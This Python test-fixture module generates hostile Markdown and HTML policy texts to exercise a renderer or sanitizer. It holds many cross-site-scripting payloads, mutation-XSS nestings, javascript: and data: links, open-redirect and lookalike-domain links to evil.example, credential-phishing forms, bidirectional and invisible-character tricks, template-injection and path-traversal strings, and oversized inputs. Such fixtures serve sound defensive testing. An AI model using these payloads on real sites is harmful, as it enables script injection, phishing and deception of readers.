"""Texts that try to do something on a page, or to make it say something else; by families, in our own words.

The families are those that OWASP's sheet on cross-site scripting names, and what can deceive a reader without a script.
`alert` stands for whatever an attacker wants to run, evil.example for wherever he wants the reader to go.
"""

from __future__ import annotations

from typing import Final

EVIL: Final = "evil.example"
_RUN: Final = "javascript:alert(1)"

#: snippets that stand in a heading, a paragraph, an item, a cell, a quotation and code
FAMILIES: Final[dict[str, tuple[str, ...]]] = {
    "tags": (
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
        "<iframe src=//evil.example></iframe>", "<object data=//evil.example/x.swf></object>",
        "<embed src=//evil.example/x.swf>", "<form action=//evil.example><input name=pin><button>go</button></form>",
        '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=//evil.example">',
        '<link rel=stylesheet href="//evil.example/x.css">', "<style>body{display:none}</style>",
        '<dialog open>Pay now</dialog>', "<portal src=//evil.example></portal>", "<marquee>x</marquee>",
        "<plaintext>", "<xmp>", "<textarea>", "<title>", "<!doctype html>", "</main></body></html><h1>Other</h1>",
        "</textarea></title></style></script><script>alert(1)</script>", "<?php echo 1 ?>", "<%= 1 %>", "{{ 7 * 7 }}",
        "{% include '/etc/passwd' %}", "${7*7}", "<b", "<a href='x", '<img src="x', "<", "<\x00script>alert(1)</script>",
    ),
    "handlers": (
        "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<body onpageshow=alert(1)>", "<details open ontoggle=alert(1)>",
        "<p style=animation:x onanimationstart=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
        "x\" tabindex=0 onfocus=alert(1) x=\"", "`onclick=alert(1)`", "<a id=x onclick=alert(1)>x</a>",
        "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>", "<isindex/onclick=alert(1)>",
    ),
    "svg and math": (
        "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,x#x'>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<svg><foreignObject><iframe src=//evil.example>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    ),
    "nesting": (
        "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(1)>'>",
        "<table><td><a href=javascript:alert(1)><table></a>x</td></table>", "<!--><script>alert(1)</script>-->",
        "<!-- --!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        "\\<script\\>alert(1)\\</script\\>", "`<script>alert(1)</script>`", "``` <img src=x onerror=alert(1)>",
        "<a\n href=javascript:alert(1)>x</a>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ),
    "schemes": (*(
        f"[go]({target})"
        for target in (
            _RUN, "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
            "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "%6aavascript:alert(1)",
            "<java\tscript:alert(1)>", "< javascript:alert(1)>", "<\x01javascript:alert(1)>", "<\u00a0javascript:alert(1)>",
            "javascript://evil.example/%0Aalert(1)", "vbscript:msgbox(1)", "data:text/html,x", "data:text/html;base64,PHNjcmlwdD4=",
            "DATA:image/svg+xml,x", "blob:https://evil.example/x", "file:///etc/passwd", "filesystem:https://evil.example/x",
            "view-source:https://evil.example", "about:blank", "intent://evil.example#Intent;end", "ms-msdt:/id", "sms:+8210",
            "ftp://evil.example/", "feed:javascript:alert(1)", "jar:https://evil.example!/x", "x:y",
        )
    ),
        f"<{_RUN}>", "<data:text/html,x>", "<vbscript:x>", f"[go][r]\n\n[r]: {_RUN}\n", f'[a]({_RUN} "t")', f"![go]({_RUN})",
        f"[![x]({_RUN})]({_RUN})", f"[![x](https://{EVIL}/p.png)](https://{EVIL}/)", f"[x[y]({_RUN})]({_RUN})",
        f"^[note [go]({_RUN})]",
    ),
    "other hosts": (
        "[go](//evil.example)", "[go](///evil.example)", "[go](/\\evil.example)", "[go](\\\\evil.example)", "[go](https:evil.example)",
        "[go](https:/evil.example)", "[go](https:///evil.example)", "[go](https:\\\\evil.example)", "[go](http:evil.example)",
        "[go](</\t/evil.example>)", "[go](&#47;&#47;evil.example)", "[go](/&sol;evil.example)", "[go](/&bsol;evil.example)",
        "[go](.//evil.example)", "[go](..//evil.example)", "[go](/.//evil.example)", "[go](evil.example)", "[go](?x)", "[go]()",
        "[go](https://policies.example.com@evil.example/)", "[go](https://policies.example.com%40evil.example/)",
        "[go](https://policies.example.com:x@evil.example/)", "[go](https://policies.example.com\\@evil.example/)",
        "[go](https://evil。example/)", "[go](https://[::1]/)", "[go](https://0x7f.1/)", "[go](/../../etc/passwd)",
        '[go](https://evil.example/"onclick="alert(1))', "[go](https://evil.example/'><script>)", "[go](<https://evil.example/ x>)",
        "![p](https://evil.example/p.png)", "![p](//evil.example/p.png)", '![p](https://evil.example/p.png "t")', "![p][i]\n\n[i]: https://evil.example/p.png\n",
    ),
    "false names": (
        "[https://bank.example/](https://evil.example/)", "[bank.example](https://evil.example/bank.example)",
        "[Log in at www.bank.example now](https://evil.example/)", "[help@bank.example](mailto:pay@evil.example)",
        "[BANK.EXAMPLE](https://evil.example/)", "[**bank.example**](https://evil.example/)", "[bank.exampl\u200be](https://evil.example/)",
        "[`bank.example`](https://evil.example/)", "[bank.example](https://bank.example.evil.example/)", "[bank.example](https://notbank.example/)",
        "[02-555-0100](tel:+82-2-555-0199)", "[bank.example](/en/privacy/)", "[b\u0430nk](https://b\u0430nk.example/)",
        "<https://b\u0430nk.example/>", "[bank](https://xn--bnk-7cd.example/)",
    ),
    "direction": tuple(
        f"pay {c}001 uoy{c} now [{c}go](https://evil.example/{c}) `{c}code`"
        for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    ),
    "unseen": (*(
        f"we do{c} not{c}{c} sell {c}[{c}]({c}https://evil.example/)"
        for c in "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x85\x9d\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2028\u2029\u2060"
        "\u2063\u2800\u3164\ufeff\uffa0\ufffc\ufff9\ufdd0\uffff\U000e0041\U000e0100\U0001d173\U0010ffff"
    ), "\x1b[2J\x1b]0;x\x07", "[U+202E\u202e](https://evil.example/)", "\u202e[a]\u202c(b)", "[a]: \u202ehttps://evil.example"),
    "heaped signs": ("w" + "\u0300\u0336\u20e3" * 40 + "ords", "e\u0301" * 20, "\u0489" * 200, "[" + "a\u0334" * 9 + "](https://evil.example/)"),
    "notes": (
        "a[^1] b[^1] c[^content]\n\n[^1]: one\n[^content]: two [go](javascript:alert(1))\n", "x[^\"><b>]\n\n[^\"><b>]: y\n", "^[in **line**] ^[second <b>]",
        "[^fn_1]: never named\n", "a[^__proto__]\n\n[^__proto__]: y\n", "[^a]: loop [^a]\n\nx[^a]\n",
    ),
    "shapes": (
        "| a | b |\n|:-:|--:|\n| `|` <td onclick=x> | c | too much |\n", "```html onload=alert(1)\n<b>\n```\n", "~~~ \"><script>\nx\n~~~\n",
        "```vh\nhidden\n```\n", "1000000000. x\n", "999999999. x\n", "0. x\n", "> # A heading in a quotation\n", "- # one\n- ## two\n",
        "Setext\n===\n", "***\n", "# {#empty}\n", "## \n", "### \u200b {#blank}\n", "## ![](https://evil.example/x.png) {#picture}\n",
        "#### Deep\n\n# Again the first\n\n###### Deepest\n", "&#0; &#xFFFE; &#x202E; &zwj; &ZeroWidthSpace; &bogus;", "{: onclick=alert(1)}",
        "---\ntitle: x\n---\n", "%s %(name)s {0} {name} $name", "<!-- a comment\n",
    ),
}  # fmt: skip

#: ids of clauses that no address can have, that a page has too, or that many objects of a browser have
IDS: Final = (
    "content", "state", "_content", "_state", "coming-1", "_coming-1", "off-1", "table", "years", "ch-1", "clause-1", "clause-2",
    "clause-0", "clause-9-", "fn1", "fnref1", "fn-1", "fn_1", "fnref_1", "amended", "latest", "changes", "v-20200101", "twice", "twice",
    "attributes", "body", "cookie", "name", "nodename", "parentnode", "submit", "document", "__proto__", "constructor", "CamelCase",
    "제3조", "a.b", "a/b", "../../../../up", "..", ".", "con", "nul", "x" * 64, "x" * 65, "y" * 300, '"><script>alert(1)</script>',
    "'onclick=alert(1)", 'x"onmouseover="alert(1)', "a%2fb", "%2e%2e", "a?b", "a#b", "a&b", "javascript:alert(1)", "\u202ea", "a\u200bb", "-", "a\\b",
)  # fmt: skip


def placed(snippet: str, number: int) -> str:
    """A snippet wherever words can stand."""
    line = " ".join(snippet.split("\n"))
    return (
        f"## {line} {{#h-{number}}}\n\nword{number} {snippet}\n\n- {snippet}\n  1. {line}\n\n> {snippet}\n\n"
        f"| {line} | b |\n|---|:-:|\n| {line} | c |\n\n*{line}* **{line}** [{line}](https://www.example.com/)\n\n"
    )


def policy(family: str, extra: str = "") -> str:
    """A policy text of one family."""
    parts = (placed(snippet, number) for number, snippet in enumerate(FAMILIES[family]))
    return f"# {family}\n\n{extra}{''.join(parts)}"


def ids() -> str:
    """A policy text whose clauses have all those ids."""
    notes = "".join(f"\n\n[^{n}]: note {n}" for n in range(3))
    clauses = (
        f"## Clause {n} {{#{each}}}\n\nword{n}, see [^{n % 3}] and [here](#{each})\n\n" for n, each in enumerate(IDS)
    )
    return "# Ids\n\nbefore\n\n## Without\n\n" + "".join(clauses) + "## Without too\n\nend" + notes + "\n"


#: texts that are too much of something
LARGE: Final[dict[str, str]] = {
    "heading of a megabyte": "# " + "long " * 200_000,
    "word of a megabyte": "# T\n\n" + "w" * 1_000_000,
    "heading of a line": "# T\n\n## " + "heading " * 1_200 + "{#h}\n\nx\n",
    "words of a line": "# T\n\n" + "\n\n".join("w" * 9_900 for _ in range(20)),
    "ten thousand items": "# T\n\n" + "\n".join(f"- item {n}" for n in range(10_000)),
    "a hundred deep": "# T\n\n" + "".join("  " * n + f"- level {n}\n" for n in range(100)),
    "forty deep": "# T\n\n" + "".join("  " * n + f"- level {n}\n" for n in range(40)),
    "quotations": "# T\n\n" + ">" * 90 + " deep\n",
    "two hundred columns": "# T\n\n" + "\n".join(["|" + "a|" * 200, "|" + "-|" * 200, *["|" + "cell|" * 200] * 20]),
    "entities": "# T\n\n" + "&amp;" * 1_900 + "\n\n" + "&#x1F600;" * 1_000,
    "no heading": "words " * 1_000,
    "other bytes": "caf\udce9 and more",
}
